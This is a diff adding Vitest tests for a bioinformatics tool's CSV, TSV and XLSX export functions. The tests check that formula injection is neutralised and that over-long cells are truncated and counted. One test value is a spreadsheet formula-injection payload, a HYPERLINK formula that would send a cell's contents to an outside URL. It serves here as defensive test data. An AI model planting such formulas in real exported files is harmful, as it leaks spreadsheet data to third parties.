@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest'
 import { type Receipt, receiptLines } from '../../contracts/receipt.ts'
-import { fileName, pngScaleOf, renderCsv, renderFasta, renderTsv } from './export.ts'
+import { readXlsx, readZip } from '../testing-strict-reader.ts'
+import { fileName, pngScaleOf, renderCsv, renderFasta, renderTsv, renderWorkbook } from './export.ts'
 
 const receipt: Receipt = {
   tool: 'blast',
@@ -30,6 +31,36 @@ describe('exports of a table', () => {
     expect(renderCsv({ columns: ['gene', 'description'], rows: [['a', 'kinase, "putative"']] })).toBe(
       '\ufeffgene,description\r\na,"kinase, ""putative"""\r\n',
     )
+  })
+
+  const hostile = '=HYPERLINK("http://example.org/?"&A1,"abcA")'
+
+  it('computes nothing that a name says, in any format, and keeps numbers numbers', async () => {
+    const sheet = { columns: ['gene', 'log2'], rows: [[hostile, -1.5e-8]] }
+    expect(renderTsv(sheet)).toBe(`gene\tlog2\n'${hostile}\t-1.5e-8\n`)
+    expect(renderCsv(sheet)).toBe(`\ufeffgene,log2\r\n"'${hostile.replaceAll('"', '""')}",-1.5e-8\r\n`)
+    const { default: writeXlsxFile } = await import('write-excel-file/node')
+    const bytes = await writeXlsxFile(renderWorkbook(sheet, 'en-US').pages).toBuffer()
+    expect(readXlsx(bytes)).toEqual([
+      [
+        ['gene', 'log2'],
+        [hostile, '-1.5e-8'],
+      ],
+    ])
+    const xml = readZip(bytes).get('xl/worksheets/sheet1.xml')?.toString('utf8')
+    // A computed cell would have an element f, and a number written as text a type.
+    expect(xml).not.toMatch(/<f[ >]/)
+    expect(xml).toMatch(/<c r="B2"(?![^>]* t=)[^>]*><v>/)
+  })
+
+  it('says of a workbook how many of its cells are cut', () => {
+    const { pages, cutCells } = renderWorkbook(
+      { columns: ['genes'], rows: [['A'.repeat(40_000)], ['B']], receipt },
+      'en-US',
+    )
+    expect(cutCells).toBe(1)
+    expect(pages[1]?.data[0]?.[0]?.value).toMatch(/^1 cell holds more than the 32,767 characters/)
+    expect(renderWorkbook({ columns: ['genes'], rows: [['B']] }, 'zh-CN')).toMatchObject({ cutCells: 0, pages: [{}] })
   })
 
   it('carries the receipt as comment lines before the head', () => {
